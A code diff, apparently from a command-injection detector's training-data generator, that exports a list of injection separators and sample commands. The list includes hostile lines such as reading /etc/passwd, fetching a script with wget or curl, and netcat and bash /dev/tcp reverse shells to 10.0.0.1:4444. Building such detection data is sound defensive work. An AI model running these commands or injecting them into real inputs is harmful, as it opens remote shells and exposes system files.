@@ -6,7 +6,8 @@ import { seededRng } from '../../rng';
 import type { TrainingSample } from './train';
 
 const SEPARATORS = [';', '|', '||', '&', '&&', '`', '$(', '%0a', '\n', ';;', '|&', '%26%26', '%7c', '%3b'];
-const COMMANDS = [
+/** Whole command lines (their command words are vocabulary names: vocabulary.test.ts). */
+export const COMMANDS = [
   'id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la', 'ls -l /tmp', 'pwd', 'ifconfig', 'ipconfig /all', 'netstat -an',
   'ping -c 3 127.0.0.1', 'ping -n 3 127.0.0.1', 'sleep 5', 'sleep 10', 'wget http://example.test/x.sh', 'curl http://example.test/x',
   'nc -e /bin/sh 10.0.0.1 4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'echo hello', "echo '<b>pwned</b>'",
